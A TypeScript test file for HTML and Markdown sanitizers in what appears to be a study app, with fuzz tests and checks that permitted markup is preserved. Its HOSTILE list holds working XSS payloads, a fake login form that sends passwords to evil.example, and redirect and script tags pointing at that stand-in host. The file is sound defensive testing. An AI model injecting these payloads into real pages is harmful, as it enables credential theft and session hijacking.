import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { textOfHtml } from '@/lib/domain/html/plain-text';
import { renderMarkdown, textOfMarkdown } from './markdown';
import { sanitizeAnswerHtml, sanitizeStudyHtml } from './safe-html';

/** What people try, as an answer, as a model's words, inside allowed tags. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<p onclick="alert(1)" style="background:url(javascript:alert(1))">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="/api/auth/logout">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/"><link rel=stylesheet href=//evil.example/x.css>',
  '<template><script>alert(1)</script></template>',
  '<ol start="javascript:alert(1)"><li id=token name=token>x</li></ol>',
  '<p data-indent="9" data-x="1">x</p>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<ScRiPt src=//evil.example></sCrIpT',
];

const TAGS = 'p|br|strong|em|h[1-4]|u|s|ul|ol|li|blockquote|a';
const ATTRIBUTES = '(?: start="\\d+"| data-indent="[1-6]"| href="(?:https?|mailto):[^"<>]*")?';
const DISALLOWED = new RegExp(`<(?!/(?:${TAGS})>|(?:${TAGS})${ATTRIBUTES}>)`, 'i');

describe.each([
  ['sanitizeStudyHtml', sanitizeStudyHtml],
  ['sanitizeAnswerHtml', sanitizeAnswerHtml],
  ['renderMarkdown', renderMarkdown],
])('%s', (_, render) => {
  test.each(HOSTILE)('takes the harm out of %j', (html) => {
    expect(render(html)).not.toMatch(DISALLOWED);
    expect(render(`<p>Before ${html} after</p>`)).not.toMatch(DISALLOWED);
    expect(render(`<p>Before ${html} after</p>`)).toContain('Before');
  });

  test('answers nothing but allowed tags, whatever it is given, and changes it no more', () => {
    const pieces = fc.constantFrom(...HOSTILE, '<p>', '</p>', '<li>', '<a href="https://a.b">', '"', '>', '`', '\n\n');
    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, fc.string({ maxLength: 4 })), { maxLength: 12 }), (parts) => {
        const safe = render(parts.join(''));
        expect(safe).not.toMatch(DISALLOWED);
        expect(sanitizeAnswerHtml(sanitizeAnswerHtml(safe))).toBe(sanitizeAnswerHtml(safe));
      }),
    );
  });
});

test.each([
  '',
  '<p>Plain &amp; simple: 5 &lt; 6, &quot;so&quot;,&nbsp;he said</p>',
  '<h1>A</h1><h2>B</h2><h3 data-indent="2">C</h3><p data-indent="1"><strong><em>x</em></strong><u><s>y</s></u><br>z</p>',
  '<blockquote>q</blockquote><ol start="3"><li>a<ul><li>b</li></ul></li></ol>',
  '<p><a href="https://example.org/a?b=1&amp;c=2">x</a> <a href="mailto:a@b.c">y</a></p>',
])('an answer as the editor writes it stays as it is: %j', (html) => {
  expect(sanitizeAnswerHtml(html)).toBe(html);
});

test('what is left of a foreign answer', () => {
  expect(sanitizeAnswerHtml('<div class=x><p>One <b>two</b> <a href="/x">three</a></p><img src=x></div>')).toBe(
    '<p>One two three</p>',
  );
});

test.each([
  ['**Duty**: a `court`\n\n1. <b>One</b>', '<p><strong>Duty</strong>: a court</p>\n<ol>\n<li>One</li>\n</ol>'],
  ['<h3>Duty</h3><p>Owed <em>here</em>.</p>', '<h3>Duty</h3><p>Owed <em>here</em>.</p>'],
  ['[a](javascript:alert(1)) [b](https://b.c)', '<p>a <a href="https://b.c">b</a></p>'],
])('a model may write Markdown or HTML: %j', (text, html) => {
  expect(renderMarkdown(text)).toBe(html);
});

test('the text of rendered Markdown is the text of the Markdown', () => {
  const markdown = '## Duty\n\nA **duty\nof** care & more.\n\n1. One\n2. Two [here](https://a.b)\n\n> Quoted';
  expect(textOfHtml(renderMarkdown(markdown))).toBe(textOfMarkdown(markdown));
});

test.each([sanitizeAnswerHtml, sanitizeStudyHtml])('HTML nested without end is refused', (read) => {
  expect(() => read('<blockquote>'.repeat(30_000))).toThrow('nested too deeply');
});
